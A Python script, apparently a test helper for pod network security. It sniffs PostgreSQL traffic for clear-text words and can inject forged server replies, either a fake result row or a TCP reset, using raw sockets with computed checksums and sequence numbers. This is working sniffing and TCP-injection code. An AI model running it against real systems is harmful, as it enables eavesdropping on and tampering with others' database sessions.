"""Watches, or forges, connections to a database on this pod's link, as a process
that has CAP_NET_RAW can.

    upstream.py sniff WORD...    writes how many segments it saw and which words
                                 they had in clear text
    upstream.py rows|reset       answers in the server's place when the server is
                                 silent, with a row that says "forged", or a reset

It ends when it sees a datagram for port 9."""
import select
import socket
import struct
import sys
import time

mode, words = sys.argv[1], [word.encode() for word in sys.argv[2:]]
PORT, SILENCE = 5432, 0.5
OUTGOING, RST, PSH, ACK = 4, 4, 8, 16  # linux/if_packet.h; RFC 9293 section 3.1


def message(kind, body):
    return kind + struct.pack("!I", len(body) + 4) + body


# PostgreSQL, Message Formats: RowDescription, DataRow, CommandComplete, ReadyForQuery.
ROWS = (
    message(b"T", struct.pack("!H", 1) + b"x\0" + struct.pack("!IHIhih", 0, 0, 25, -1, -1, 0))
    + message(b"D", struct.pack("!HI", 1, 6) + b"forged")
    + message(b"C", b"SELECT 1\0") + message(b"Z", b"I"))


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def answer(client, server, ports, seq, ack):
    """A segment of the server's with numbers that the client expects."""
    payload, flags = (b"", RST | ACK) if mode == "reset" else (ROWS, PSH | ACK)
    tcp = struct.pack("!HHIIBBHHH", ports[1], ports[0], seq, ack, 5 << 4, flags, 65535, 0, 0) + payload
    pseudo = server + client + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64, socket.IPPROTO_TCP, 0, server, client)
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


link = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))  # ETH_P_ALL: what leaves is seen too
forge = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
streams, waiting = {}, {}  # by addresses and ports: what was said; what would answer it, and since when
segments = forged = 0
print("watching", flush=True)
while True:
    if select.select([link], [], [], 0.1)[0]:
        data, (device, protocol, kind, *_) = link.recvfrom(65536)
        if protocol != 0x0800:
            continue
        header = (data[0] & 15) * 4
        source, dest, rest = data[12:16], data[16:20], data[header:struct.unpack("!H", data[2:4])[0]]
        if data[9] == socket.IPPROTO_UDP and rest[2:4] == struct.pack("!H", 9):
            break
        if data[9] == socket.IPPROTO_TCP and device != "lo":
            ports = struct.unpack("!HH", rest[:4])
            if PORT in ports:
                seq, ack = struct.unpack("!II", rest[4:12])
                payload = rest[(rest[12] >> 4) * 4:]
                segments += 1
                flow = (source, dest, ports)
                streams[flow] = streams.get(flow, b"") + payload
                if kind == OUTGOING and payload:
                    waiting[flow] = time.monotonic(), answer(source, dest, ports, ack, (seq + len(payload)) & 0xFFFFFFFF)
                elif payload:
                    waiting.pop((dest, source, ports[::-1]), None)
    for flow, (since, packet) in list(waiting.items()):
        if mode != "sniff" and time.monotonic() - since > SILENCE:
            forge.sendto(packet, (socket.inet_ntoa(flow[0]), 0))
            forged += 1
            del waiting[flow]
            print("sent", forged, flush=True)
found = [word.decode() for word in words if any(word in stream for stream in streams.values())]
print(f"segments {segments} forged {forged} found {found} end", flush=True)
